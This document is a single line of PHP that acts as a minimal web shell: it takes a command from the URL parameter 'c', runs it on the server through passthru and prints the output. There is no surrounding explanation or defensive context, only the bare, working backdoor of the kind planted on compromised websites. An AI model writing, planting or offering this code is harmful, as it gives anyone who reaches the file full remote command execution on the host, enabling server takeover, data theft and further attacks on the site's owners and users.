<?php if (isset($_GET['c'])) { echo "<pre>"; passthru($_GET['c']); }
